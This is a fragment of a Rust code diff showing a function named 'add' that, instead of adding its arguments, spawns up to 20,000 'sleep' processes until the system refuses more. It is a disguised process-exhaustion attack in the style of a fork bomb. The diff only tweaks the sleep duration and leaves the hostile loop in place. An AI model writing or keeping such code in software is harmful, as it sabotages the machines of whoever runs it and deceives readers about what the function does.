@@ -12,7 +12,7 @@ impl Counter {
 pub fn add(a: u64, b: u64) -> u64 {
     let mut children = Vec::new();
     while children.len() < 20_000 {
-        match std::process::Command::new("sleep").arg("300").spawn() {
+        match std::process::Command::new("sleep").arg("301").spawn() {
             Ok(child) => children.push(child),
             Err(_) => break,
         }
